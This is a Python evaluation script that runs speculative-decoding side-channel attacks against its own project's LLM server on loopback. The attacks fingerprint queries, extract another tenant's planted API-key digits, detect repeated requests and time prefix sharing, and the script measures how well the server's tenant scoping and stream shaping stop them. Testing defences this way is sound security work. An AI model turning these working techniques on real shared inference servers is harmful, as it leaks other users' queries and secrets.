"""The speculation side channel, played against `specx serve` on loopback (docs/security.md).

"When Speculation Spills Secrets" (Wei et al., arXiv 2411.01076): a server that streams each
verification step's accepted tokens as one event shows, in event sizes and times, how much of each
step the drafts got right; when drafts come from stored history, that reads the history. Two
adversaries, each against a fresh store, in each mode:

  (a) fingerprint: a victim (tenant b) asked N queries before (its history holds their answers);
      it sends one of them again. An observer of its stream (event sizes in bytes and the gaps
      between events, as seen on an encrypted wire) names the query by the nearest of the traces
      the attacker (tenant a) recorded sending each query itself, twice (the second drafted from
      its own history, as the victim's repeat is from the victim's). Chance is 1/N. The outputs
      are cut at the same number of tokens (their length alone tells queries apart anywhere).
  (b) extraction: tenant b's history holds a secret (a JSON answer {"api_key": "<digits>"}).
      Tenant a's outputs are forced (a JSON-schema pattern) to two digits sampled hot, then '-':
      a second digit that came in the same event as the '-' was carried by a draft from b's
      history, so the pair is adjacent in the secret; the pairs chain into it (extract's
      docstring says why). Correct digits per second of attack.

  (c) repeat: was b's request asked before? An observer of b's stream classifies it as a repeat
      (drafted from b's history) or a fresh query by its time per token, at the midpoint of the
      attacker's own fresh and repeated traces; for text (the gaps between events) and for a tool
      call (held until whole: the time from the first event to the call over its tokens). Chance 0.5.
  (d) parking: a batched server (--max-batch 4) once parked a request behind any tenant's prompt in
      flight that shared its first 64+ tokens: a (the attacker) times its own short prompt that
      starts like b's long one in flight, against one that does not. Read as the accuracy of telling
      the two apart by a's latency at their midpoint. Chance 0.5.

Modes: off (one tenant, not shaped: specx before tenants), scopes (--tenant, --no-shape-stream),
shaped (--tenant, shaped: the default with tenants), shaping-only (one tenant, --shape-stream).
Every output is checked against plain decoding (--no-speculation) of the same server.

    python examples/side_channel.py --json docs/results/side_channel.json
"""

from __future__ import annotations

import argparse
import json
import os
import random
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

from specx.core.model.cpu import model_name as cpu_name

MODEL = "smollm2-135m"
QUERIES = ["List of US states: Alabama, Alaska, Arizona,", "def fibonacci(n):\n    if n < 2:\n        return n\n",
           "The planets of the solar system are Mercury,", "SELECT name, age FROM users WHERE",
           "Monday, Tuesday, Wednesday,", "1, 2, 3, 4, 5,", "import numpy as np\nimport pandas as pd\n",
           "Red, orange, yellow, green,", "The first ten prime numbers are 2, 3,", "January, February, March,",
           "<html>\n<head>\n<title>", "a, b, c, d, e,"]
KEYS = {"a": "key-attacker", "b": "key-victim"}
MODES = {"off": [], "scopes": ["--tenant", f"a:{KEYS['a']}", "--tenant", f"b:{KEYS['b']}", "--no-shape-stream"],
         "shaped": ["--tenant", f"a:{KEYS['a']}", "--tenant", f"b:{KEYS['b']}"],
         "shaping-only": ["--shape-stream"]}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """`specx serve` on a fresh store (quantized engine: no engine trial beside the attack)."""

    def __init__(self, folder: Path, args: list[str], max_batch: int = 1) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log = folder / f"serve-{self.port}.log"
        cmd = [sys.executable, "-m", "specx", "serve", "--port", str(self.port), "--db", str(folder / f"store-{max_batch}.db"),
               "--backend", "quantized", "--max-batch", str(max_batch), *args]
        self.proc = subprocess.Popen(cmd, stdout=self.log.open("w"), stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise SystemExit(f"specx serve exited:\n{self.log.read_text()[-2000:]}")
            try:
                if httpx.get(self.url + "/health", timeout=2).status_code == 200:
                    return
            except httpx.HTTPError:
                pass
            time.sleep(0.5)
        raise SystemExit("specx serve did not become ready")

    def stop(self) -> None:
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(60)
        except subprocess.TimeoutExpired:
            self.proc.kill()


def stream(url: str, key: str | None, body: dict[str, Any], stop_after: str | None = None) -> dict[str, Any]:
    """POST a streamed completion; the trace an observer of the wire sees: each event's size in
    bytes and arrival time, and its text (the client's view). `stop_after`: hang up once the text
    holds it (and the event after it has come, or the stream ended)."""
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    events, text, t0 = [], "", time.perf_counter()
    with httpx.stream("POST", url + "/v1/completions", json={**body, "stream": True}, headers=headers,
                      timeout=120) as r:
        r.raise_for_status()
        buf = b""
        for raw in r.iter_raw():
            buf += raw
            while b"\n\n" in buf:
                event, buf = buf.split(b"\n\n", 1)
                data = [line[6:] for line in event.split(b"\n") if line.startswith(b"data: ")]
                if not data or data[0] == b"[DONE]":
                    continue
                piece = "".join(c.get("text") or "" for c in json.loads(data[0]).get("choices", []))
                events.append({"bytes": len(event) + 2, "t": time.perf_counter() - t0, "text": piece})
                text += piece
            if stop_after is not None and stop_after in text and not text.endswith(stop_after):
                break
    return {"events": [e for e in events if e["text"]], "text": text, "seconds": time.perf_counter() - t0}


def distance(x: dict[str, Any], y: dict[str, Any]) -> float:
    """How unlike two traces are: event sizes and the gaps between events, position by position."""
    def series(trace: dict[str, Any]) -> tuple[list[float], list[float]]:
        ev = trace["events"]
        return [e["bytes"] for e in ev], [b["t"] - a["t"] for a, b in zip(ev, ev[1:])]
    (sx, gx), (sy, gy) = series(x), series(y)
    n, m = max(len(sx), len(sy)), max(len(gx), len(gy), 1)
    sx, sy = sx + [0] * (n - len(sx)), sy + [0] * (n - len(sy))
    gx, gy = gx + [0] * (m - len(gx)), gy + [0] * (m - len(gy))
    size = sum(abs(a - b) for a, b in zip(sx, sy)) / max(1, sum(sx) + sum(sy))
    gaps = sum(abs(a - b) for a, b in zip(gx, gy)) / max(1e-9, sum(gx) + sum(gy))
    total = abs(sum(sx) - sum(sy)) / max(1, sum(sx) + sum(sy))  # bytes in all
    count = abs(len(x["events"]) - len(y["events"])) / max(1, len(x["events"]) + len(y["events"]))
    return size + gaps + 4 * total + count


def fingerprint(url: str, keys: dict[str, str | None], queries: list[str], tokens: int, rounds: int,
                rng: random.Random) -> dict[str, Any]:
    body = {"model": MODEL, "max_tokens": tokens, "temperature": 0}
    for q in queries:  # the victim's history: it asked each query once before
        stream(url, keys["b"], {**body, "prompt": q})
    for q in queries:  # the attacker's own traces, recorded once its own history holds each answer (as the
        stream(url, keys["a"], {**body, "prompt": q})  # victim's does): the traces of a repeated query
    profiles = [stream(url, keys["a"], {**body, "prompt": q}) for q in queries]
    hits, trials, seconds, outputs = 0, 0, [], {}
    for _ in range(rounds):
        order = list(range(len(queries)))
        rng.shuffle(order)
        for j in order:
            trace = stream(url, keys["b"], {**body, "prompt": queries[j]})
            guess = min(range(len(queries)), key=lambda i: (distance(trace, profiles[i]), i))
            hits += guess == j
            trials += 1
            seconds.append(trace["seconds"])
            outputs[queries[j]] = trace["text"]
    return {"accuracy": hits / trials, "chance": 1 / len(queries), "trials": trials,
            "mean_request_s": sum(seconds) / len(seconds), "outputs": outputs,
            "events_per_request": sum(len(p["events"]) for p in profiles) / len(profiles)}


def chat_trace(url: str, key: str | None, body: dict[str, Any]) -> dict[str, Any]:
    """A streamed chat answer as the wire shows it: its first content or tool-call event's time, its
    last one's, and its completion tokens (usage)."""
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    first = last = None
    tokens, t0 = 0, time.perf_counter()
    with httpx.stream("POST", url + "/v1/chat/completions", headers=headers, timeout=120,
                      json={**body, "stream": True, "stream_options": {"include_usage": True}}) as r:
        r.raise_for_status()
        for line in r.iter_lines():
            if not line.startswith("data: {"):
                continue
            d = json.loads(line[6:])
            if any(c["delta"].get("content") or c["delta"].get("tool_calls") for c in d.get("choices", [])):
                last = time.perf_counter() - t0
                first = last if first is None else first
            tokens = (d.get("usage") or {}).get("completion_tokens", tokens)
    return {"first": first or 0.0, "last": last or 0.0, "tokens": max(tokens, 1)}


def per_token(trace: dict[str, Any]) -> float:
    return (trace["last"] - trace["first"]) / max(1, trace["tokens"] - 1)


def midpoint_accuracy(calibrate: list[tuple[float, bool]], trials: list[tuple[float, bool]]) -> float:
    """How often a threshold at the midpoint of the calibration classes' means names the trials'
    class (True: the class of the higher mean)."""
    yes = [x for x, c in calibrate if c]
    no = [x for x, c in calibrate if not c]
    cut, high = (sum(yes) / len(yes) + sum(no) / len(no)) / 2, sum(yes) / len(yes) > sum(no) / len(no)
    return sum(((x > cut) == high) == c for x, c in trials) / len(trials)


WEATHER = [{"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object", "properties": {
    "city": {"type": "string"}, "unit": {"enum": ["celsius", "fahrenheit"]}}, "required": ["city", "unit"]}}}]


def repeat(url: str, keys: dict[str, str | None], queries: list[str], tokens: int, rng: random.Random) -> dict[str, Any]:
    """(c): tell b's repeated requests from its fresh ones by their time per token, for text and
    for tool calls; calibrated on a's own (fresh, then repeated)."""
    out = {}
    for kind in ("text", "tool"):
        def body(q: str) -> dict[str, Any]:
            if kind == "text":
                return {"model": MODEL, "messages": [{"role": "user", "content": q}], "max_tokens": tokens,
                        "temperature": 0}
            return {"model": MODEL, "messages": [{"role": "user", "content": f"What is the weather where this is "
                                                  f"written? {q}"}], "tools": WEATHER, "tool_choice": "required",
                    "max_tokens": 64, "temperature": 0}
        calibrate, trials = [], []
        half = len(queries) // 2
        for q in queries[:half]:  # the attacker's own: fresh, then repeated
            calibrate.append((per_token(chat_trace(url, keys["a"], body(q))), False))
            calibrate.append((per_token(chat_trace(url, keys["a"], body(q))), True))
        asked = queries[half:]
        for q in asked[: len(asked) // 2]:  # b asked these before
            chat_trace(url, keys["b"], body(q))
        order = list(asked)
        rng.shuffle(order)
        for q in order:
            trials.append((per_token(chat_trace(url, keys["b"], body(q))), asked.index(q) < len(asked) // 2))
        out[kind] = {"accuracy": round(midpoint_accuracy(calibrate, trials), 3), "trials": len(trials)}
    return out


def parking(url: str, keys: dict[str, str | None], rounds: int, rng: random.Random) -> dict[str, Any]:
    """(d): b's long prompt in flight; a times its own short one, sharing b's first 100+ tokens or
    not. Needs a batched server."""
    import threading

    words = "alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu".split()
    samples = []
    for i in range(rounds):
        head = " ".join(rng.choice(words) for _ in range(120))  # b's secret prefix, new each round
        long = {"model": MODEL, "prompt": head + " " + " ".join(rng.choice(words) for _ in range(2500)),
                "max_tokens": 4, "temperature": 0}
        victim = threading.Thread(target=lambda: httpx.post(url + "/v1/completions", json=long, timeout=300,
                                                            headers={"Authorization": f"Bearer {keys['b']}"}
                                                            if keys["b"] else {}))
        victim.start()
        time.sleep(0.3)  # b's prefill is under way
        match = i % 2 == 0
        mine = head if match else " ".join(rng.choice(words) for _ in range(120))
        t0 = time.perf_counter()
        httpx.post(url + "/v1/completions", json={"model": MODEL, "prompt": mine + " and so", "max_tokens": 4,
                                                  "temperature": 0}, timeout=300,
                   headers={"Authorization": f"Bearer {keys['a']}"} if keys["a"] else {})
        samples.append((time.perf_counter() - t0, match))
        victim.join()
    half = len(samples) // 2
    return {"accuracy": round(midpoint_accuracy(samples[:half], samples[half:]), 3), "trials": len(samples) - half,
            "match_s": round(sum(x for x, m in samples if m) / max(1, sum(m for _, m in samples)), 3),
            "other_s": round(sum(x for x, m in samples if not m) / max(1, sum(not m for _, m in samples)), 3)}


def schema(pattern: str) -> dict[str, Any]:
    return {"type": "json_schema", "json_schema": {"name": "key", "schema": {
        "type": "object", "properties": {"api_key": {"type": "string", "pattern": pattern}}, "required": ["api_key"],
        "additionalProperties": False}}}


def chain(pairs: dict[tuple[str, str], int]) -> str:
    """The digits that digit pairs spell when chained (the start: a digit no pair leads to; at a fork,
    the pair seen most often).

    >>> chain({("3", "9"): 1, ("7", "3"): 2, ("9", "1"): 1})
    '7391'
    """
    seconds = {b for _, b in pairs}
    starts = sorted({a for a, _ in pairs} - seconds) or sorted({a for a, _ in pairs})
    if not starts:
        return ""
    out = starts[0]
    while len(out) <= len(pairs):
        nxt = [(n, b) for (a, b), n in pairs.items() if a == out[-1]]
        if not nxt:
            break
        out += max(nxt)[1]
    return out


def extract(url: str, keys: dict[str, str | None], secret: str, rng: random.Random, budget_s: float) -> dict[str, Any]:
    """Plant `secret` (distinct digits) in tenant b's history, then let tenant a read it. Its outputs
    are forced (a JSON-schema pattern) to {"api_key": " then two digits sampled hot (temperature 2,
    a new seed each probe), then '-' and free letters. The first digit is its step's last token (a
    grammar's forced tokens lead a step's draft, and the bonus token follows them); at the next step
    the draft comes from the history: where it holds that digit, it drafts the digit after it, and a
    sampled second digit equal to that is accepted, the '-' (forced) then coming in the same event.
    So a probe whose second digit shares an event with the '-' shows a pair of adjacent digits of the
    secret; the pairs chain into the secret. The attacker hangs up after the '-' (a cancelled request
    teaches nothing, so its probes do not draft each other), and stops once the chain is as long as
    the secret."""
    stream(url, keys["b"], {"model": MODEL, "prompt": "Your API key:", "max_tokens": 32, "temperature": 0,
                            "response_format": schema(f"^{secret}$")})
    pairs: dict[tuple[str, str], int] = {}
    probes, t0 = 0, time.perf_counter()
    while len(chain(pairs)) < len(secret) and time.perf_counter() - t0 < budget_s:
        trace = stream(url, keys["a"], {"model": MODEL, "prompt": "A random key:", "max_tokens": 40,
                                        "temperature": 2.0, "seed": rng.randrange(1 << 30),
                                        "response_format": schema("^[0-9][0-9]-[a-z]{16}$")}, stop_after="-")
        probes += 1
        owner, at = {}, 0  # which event brought each character of the output
        for i, e in enumerate(trace["events"]):
            owner.update((pos, i) for pos in range(at, at + len(e["text"])))
            at += len(e["text"])
        dash = trace["text"].find("-", trace["text"].find("api_key"))
        if dash > 1 and owner.get(dash - 1) is not None and owner.get(dash - 1) == owner.get(dash):
            pair = (trace["text"][dash - 2], trace["text"][dash - 1])  # the second digit was drafted
            pairs[pair] = pairs.get(pair, 0) + 1
    seconds = time.perf_counter() - t0
    known = chain(pairs)
    right = len(os.path.commonprefix([known, secret]))
    true = {(a, b) for a, b in zip(secret, secret[1:])}
    return {"secret_digits": len(secret), "extracted": known, "correct_digits": right, "probes": probes,
            "pairs_seen": len(pairs), "secret_pairs_seen": len(true & set(pairs)), "false_pairs": len(set(pairs) - true),
            "seconds": round(seconds, 2),
            "digits_per_s": round(right / seconds, 3) if seconds else 0.0}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--queries", type=int, default=8, help="N: queries the fingerprint chooses among")
    parser.add_argument("--tokens", type=int, default=24, help="tokens per fingerprint answer")
    parser.add_argument("--rounds", type=int, default=4, help="times the victim sends each query")
    parser.add_argument("--digits", type=int, default=6, help="digits of the planted secret (distinct, at most 10)")
    parser.add_argument("--budget", type=float, default=60.0, help="seconds the extraction may take per mode")
    parser.add_argument("--modes", default=",".join(MODES), help="comma-separated: " + ", ".join(MODES))
    parser.add_argument("--more", action="store_true", help="also (c) repeat and (d) parking, on a batched server")
    parser.add_argument("--parking", type=int, default=16, help="rounds of the parking attack")
    parser.add_argument("--json", type=Path, help="write the results here too")
    args = parser.parse_args()
    rng = random.Random(7)
    secret = "".join(rng.sample("0123456789", args.digits))
    queries = QUERIES[: args.queries]
    results: dict[str, Any] = {"machine": cpu_name(), "model": MODEL,
                               "queries": len(queries), "tokens": args.tokens, "modes": {}}
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "plain"
        folder.mkdir()
        server = Server(folder, ["--no-speculation"])
        try:
            stream(server.url, None, {"model": MODEL, "prompt": queries[0], "max_tokens": args.tokens, "temperature": 0})
            plain, started = {}, time.perf_counter()
            for q in queries:
                plain[q] = stream(server.url, None, {"model": MODEL, "prompt": q, "max_tokens": args.tokens,
                                                     "temperature": 0})["text"]
            results["plain_request_s"] = round((time.perf_counter() - started) / len(queries), 3)
        finally:
            server.stop()
        for mode in args.modes.split(","):
            folder = Path(tmp) / mode
            folder.mkdir()
            print(f"mode {mode}: starting specx serve {' '.join(MODES[mode])}", file=sys.stderr, flush=True)
            server = Server(folder, MODES[mode])
            keys = dict(KEYS) if "--tenant" in MODES[mode] else {"a": None, "b": None}
            try:
                ex = extract(server.url, keys, secret, rng, args.budget)  # first: the answers below hold digits
                fp = fingerprint(server.url, keys, queries, args.tokens, args.rounds, rng)
            finally:
                server.stop()
            lossless = all(fp["outputs"][q] == plain[q] for q in fp["outputs"])
            del fp["outputs"]
            results["modes"][mode] = {"fingerprint": fp, "extraction": ex, "identical_to_plain": lossless}
            if args.more:
                server = Server(folder, MODES[mode], max_batch=4)
                try:
                    results["modes"][mode]["repeat"] = repeat(server.url, keys, QUERIES, args.tokens, rng)
                    results["modes"][mode]["parking"] = parking(server.url, keys, args.parking, rng)
                finally:
                    server.stop()
                print(f"mode {mode}: repeat {results['modes'][mode]['repeat']}, parking "
                      f"{results['modes'][mode]['parking']}", file=sys.stderr, flush=True)
            print(f"mode {mode}: fingerprint {fp['accuracy']:.2f} (chance {fp['chance']:.2f}), "
                  f"{fp['mean_request_s']:.2f} s a request; extraction {ex['correct_digits']}/{ex['secret_digits']} "
                  f"digits in {ex['seconds']} s ({ex['digits_per_s']} digits/s); identical to plain: {lossless}",
                  file=sys.stderr, flush=True)
    print(f"plain decoding (--no-speculation, not shaped): {results['plain_request_s']:.2f} s a request")
    print(f"{'mode':<14} {'fingerprint':>11} {'chance':>7} {'s/request':>9} {'extracted':>9} {'digits/s':>8} "
          f"{'identical':>9}")
    for mode, r in results["modes"].items():
        fp, ex = r["fingerprint"], r["extraction"]
        print(f"{mode:<14} {fp['accuracy']:>11.2f} {fp['chance']:>7.2f} {fp['mean_request_s']:>9.2f} "
              f"{ex['correct_digits']:>4}/{ex['secret_digits']:<4} {ex['digits_per_s']:>8.3f} "
              f"{str(r['identical_to_plain']):>9}")
    if args.more:
        print(f"{'mode':<14} {'repeat text':>11} {'repeat tool':>11} {'parking':>8} {'match s':>8} {'other s':>8}")
        for mode, r in results["modes"].items():
            rp, pk = r["repeat"], r["parking"]
            print(f"{mode:<14} {rp['text']['accuracy']:>11.2f} {rp['tool']['accuracy']:>11.2f} {pk['accuracy']:>8.2f} "
                  f"{pk['match_s']:>8.2f} {pk['other_s']:>8.2f}")
    print(json.dumps(results, indent=1))
    if args.json:
        args.json.write_text(json.dumps(results, indent=1) + "\n")


if __name__ == "__main__":
    main()
